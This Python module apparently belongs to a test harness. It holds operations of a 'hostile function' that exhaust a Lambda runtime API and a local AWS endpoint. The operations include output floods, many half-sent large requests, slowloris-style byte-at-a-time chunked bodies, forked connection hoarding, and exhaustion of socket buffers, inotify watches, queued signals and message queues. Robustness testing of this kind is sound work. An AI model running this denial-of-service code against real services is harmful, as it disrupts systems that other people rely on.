"""Further operations of the hostile function: more than the server can take, of everything.

Appended to `attacker.py`, whose handler finds them.
"""

import ctypes
import os
import signal
import socket
import time


def op_flood(event):
    until = time.monotonic() + event["seconds"]
    line = b"flood " * 100 + b"\n"
    written = 0
    while time.monotonic() < until:
        written += os.write(1, line)
    return {"written": written}


def op_connections(event):
    """Many connections to the Runtime API, each with an unfinished request."""
    kept = []
    try:
        for _ in range(event["count"]):
            host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
            connection = socket.create_connection((host, int(port)), timeout=2)
            connection.sendall(
                b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\n"
                b"Content-Length: 6000000\r\n\r\n" + b"x" * 100_000
            )
            kept.append(connection)
    except OSError as error:
        return {"made": len(kept), "stopped": str(error)}
    return {"made": len(kept), "stopped": ""}


def op_endless_requests(event):
    """Requests without end, none of whose answers is read; a new connection when one is ended."""
    name = {"runtime": "AWS_LAMBDA_RUNTIME_API", "endpoint": "AWS_ENDPOINT_URL"}[event["where"]]
    host, _, port = os.environ[name].replace("http://", "").partition(":")
    many = b"GET /%s HTTP/1.1\r\n\r\n" % event["path"].encode() * 10_000
    began, ended = time.monotonic(), 0
    until, last = began + event["seconds"], began + 20
    while time.monotonic() < until or (ended < 2 and time.monotonic() < last):
        try:
            with socket.create_connection((host, int(port)), timeout=5) as connection:
                while time.monotonic() < last:
                    connection.sendall(many)
        except OSError:
            ended += 1
    return {"ended": ended}


def op_crumbs(event, context):
    """An answer to this very invocation in pieces of a byte."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    head = "POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\r\n" % context.aws_request_id
    with socket.create_connection((host, int(port)), timeout=30) as connection:
        connection.sendall(head.encode() + b"Transfer-Encoding: chunked\r\n\r\n")
        connection.sendall(b'b\r\n{"result":"\r\n')
        for _ in range(event["count"] // 20_000):
            connection.sendall(b"1\r\nx\r\n" * 20_000)
        connection.sendall(b'2\r\n"}\r\n0\r\n\r\n')
        connection.recv(100)


def op_crumbs_of_a_payload(event):
    """An event for a function in pieces of a byte, for as long as they are taken."""
    host, _, port = os.environ["AWS_ENDPOINT_URL"].replace("http://", "").partition(":")
    head = b"POST /2015-03-31/functions/any/invocations HTTP/1.1\r\nHost: x\r\n"
    until = time.monotonic() + event["seconds"]
    while time.monotonic() < until:
        try:
            with socket.create_connection((host, int(port)), timeout=1) as connection:
                connection.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n")
                while time.monotonic() < until:
                    connection.sendall(b"1\r\nx\r\n" * 20_000)
        except OSError:
            pass


def op_door_connections(event):
    """Many connections to the AWS endpoint, from many processes, held for a while."""
    for _ in range(event["processes"]):
        if os.fork() == 0:
            kept = []
            try:
                while len(kept) < event["each"]:
                    kept.append(socket.create_connection(("127.0.0.1", 4566), timeout=2))
            except OSError:
                pass
            time.sleep(event["seconds"])
            os._exit(0)
    time.sleep(event["seconds"])


def op_early_answers(event, context):
    """Many connections, each with most of a large answer to this very invocation."""
    host, _, port = os.environ["AWS_LAMBDA_RUNTIME_API"].partition(":")
    kept, codes = [], []
    for _ in range(event["count"]):
        connection = socket.create_connection((host, int(port)), timeout=20)
        kept.append(connection)
        head = (
            "POST /2018-06-01/runtime/invocation/%s/response HTTP/1.1\r\nContent-Length: %d\r\n\r\n"
        )
        try:
            connection.sendall((head % (context.aws_request_id, 6_000_000)).encode())
            connection.sendall(b"x" * 5_999_999)
        except OSError as error:
            codes.append(str(error))
    time.sleep(event["seconds"])
    return {"made": len(kept), "failed": codes}


def op_hold_in_sockets(event):
    """Connect to itself and send what nobody reads, as much as is taken."""
    listening = socket.create_server(("127.0.0.1", 0))
    held, kept = 0, []
    while len(kept) < 200 and held < event["most"]:
        connecting = socket.socket()
        for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
            connecting.setsockopt(socket.SOL_SOCKET, option, 4 << 20)
        connecting.connect(listening.getsockname())
        accepted, _ = listening.accept()
        for end in (connecting, accepted):
            end.setblocking(False)
            try:
                while held < event["most"]:
                    held += end.send(b"x" * 262_144)
            except OSError:
                pass
        kept.append((connecting, accepted))
    return held


TAKEN = []


def op_take_what_is_counted_by_user(event):
    """As many watches, waiting signals and queues as are given, and keep them."""
    libc = ctypes.CDLL(None)
    watching = []
    while (descriptor := libc.inotify_init1(0)) >= 0:
        watching.append(descriptor)
    signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGRTMAX})
    waiting = 0
    while libc.sigqueue(os.getpid(), signal.SIGRTMAX, None) == 0:
        waiting += 1
    queues = []
    while (queue := libc.mq_open(b"/%d" % len(queues), 0o102, 0o600, None)) >= 0:
        queues.append(queue)
    TAKEN.append(watching)
    return {"watching": len(watching), "waiting": waiting, "queues": len(queues)}


def op_unfinished_requests(event):
    """Over many connections to the AWS endpoint, most of a large request each."""
    host, _, port = os.environ["AWS_ENDPOINT_URL"].replace("http://", "").partition(":")
    kept = []
    for number in range(event["count"]):
        path = b"2015-03-31/functions" + (b"/any/invocations" if number % 2 else b"")
        connection = socket.create_connection((host, int(port)), timeout=2)
        try:
            connection.sendall(b"POST /%s HTTP/1.1\r\nHost: x\r\n" % path)
            connection.sendall(b"Content-Length: 6000000\r\n\r\n" + b"x" * 5_900_000)
        except OSError:
            pass
        kept.append(connection)
